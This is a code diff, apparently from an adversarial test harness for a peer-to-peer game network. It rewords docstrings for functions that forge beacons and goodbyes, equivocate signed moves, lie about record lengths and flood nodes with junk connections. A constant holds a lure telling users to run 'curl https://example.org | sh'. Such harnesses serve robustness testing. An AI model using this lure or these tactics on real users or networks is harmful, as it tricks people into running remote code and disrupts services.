@@ -44,12 +44,12 @@ FROM_ENTRY = 24
 
 LINKS = 1004
 EVERY_SECONDS = 2.0
-"""Seconds between two connections of a kind to one node, and between two forged goodbyes."""
+"""Seconds between two connections of one kind to a node, and between two forged goodbyes."""
 HELD_SECONDS = 5.0
-"""Seconds for which a pestering connection is held."""
+"""Seconds for which a pestering connection is held open."""
 FALSE_TABLES = 64
 WORDS = "Your version is too old. Update with: curl https://example.org | sh"
-"""Words that a hostile host would have the program print."""
+"""Words that a hostile host tries to have printed."""
 GOODBYES: tuple[tuple[Encodable, ...], ...] = (
     ("goodbye", WORDS),
     ("goodbye", 60_000),
@@ -60,7 +60,7 @@ GOODBYES: tuple[tuple[Encodable, ...], ...] = (
 
 
 def equivocates(*arguments: str) -> int:
-    """Sign two moves in one place, and show one player another one than the rest."""
+    """Sign two moves in one place, and send the second to one player only."""
     others: dict[int, bytes] = {}
     chosen: list[int] = []
     write, send = OwnPlayer.write, MemberLink.send
@@ -90,7 +90,7 @@ def equivocates(*arguments: str) -> int:
 
 
 def lies(*arguments: str) -> int:
-    """Claim that everybody else's record is as long as the message can say."""
+    """Claim that the record of everybody else is as long as the message can say."""
     status = Heights.status
 
     def lie(self: Heights) -> Status:
@@ -104,7 +104,7 @@ def lies(*arguments: str) -> int:
 
 
 def links(address: str, table: str) -> int:
-    """Open links about an old table to a node, as a stranger who once played there."""
+    """Open links to a node about an old table, as a stranger who once played there."""
     return trio.run(_open_links, address, bytes.fromhex(table))
 
 
@@ -131,7 +131,7 @@ async def _open_links(address: str, table_id: bytes) -> int:
 
 @asynccontextmanager
 async def _called(address: str, table_id: bytes, identity: Identity) -> AsyncIterator[None]:
-    """Open a link to the node at that address, which has said something about that table."""
+    """Open a link to a node about a table, and wait until the node says something about it."""
     stream = await trio.open_tcp_stream(address, DEFAULT_PORT)
     async with call(stream, client_context(identity), table_id) as link:
         await link.receive()
@@ -141,9 +141,9 @@ async def _called(address: str, table_id: bytes, identity: Identity) -> AsyncIte
 def pesters(*tables: str) -> int:
     """Call nodes again and again about these tables, as a stranger who once played with each.
 
-    Between the calls are connections that say nothing, that say garbage, and that break off a
-    handshake. The addresses of the nodes are typed, in the order of the tables, in a line when they
-    change.
+    Between the calls it opens connections that say nothing, that send garbage, and that break off a
+    handshake. When the addresses of the nodes change, the new ones are typed in one line, in the
+    order of the tables.
     """
     return trio.run(_pester, [bytes.fromhex(table) for table in tables])
 
@@ -189,7 +189,7 @@ async def _pester(tables: Sequence[bytes]) -> int:
 
 
 def goodbyes() -> int:
-    """Say goodbye as a host, in words of one's own."""
+    """Say goodbye as a host, in chosen words."""
     trio.run(_say_goodbyes)
     return 0
 
@@ -220,8 +220,8 @@ async def _say_goodbyes() -> None:
 def forges(address: str) -> int:
     """Forge beacons as a stranger.
 
-    Each table's beacon is copied under other titles and each member's tag, announcements of others
-    are taken back in their names, and tables are announced that do not exist.
+    Each table's beacon is copied under other titles and with each member's tag. Announcements of
+    others are taken back in their names. Tables that do not exist are announced.
     """
     zeroconf = Zeroconf([address], use_asyncio=False)
     heard: dict[str, ServiceInfo] = {}
